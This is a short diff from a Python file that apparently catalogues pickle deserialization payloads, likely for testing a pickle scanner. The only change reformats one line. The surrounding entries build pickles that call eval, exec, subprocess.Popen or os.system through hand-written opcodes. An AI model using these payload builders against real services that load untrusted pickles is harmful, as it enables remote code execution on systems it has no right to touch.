@@ -74,7 +74,8 @@ def payloads() -> list[Payload]:
                 "subprocess.Popen"),
         Payload("builtins.eval", lambda s: via_reduce(eval, (create_file_source(s),), 4), "builtins.eval"),
         # protocol 2 writes Python 2 names; plain pickle maps them back (fix_imports)
-        Payload("__builtin__.exec", lambda s: via_reduce(exec, (create_file_source(s),), 2), "__builtin__.exec"),
+        Payload("__builtin__.exec", lambda s: via_reduce(exec, (create_file_source(s),), 2),
+                "__builtin__.exec"),
         # getattr(__import__("os"), "system")(cmd), all by hand
         Payload("builtins.getattr+__import__", lambda s: PROTO4 + call1(
             stack_global("builtins", "getattr") + call1(stack_global("builtins", "__import__"), unicode("os"))
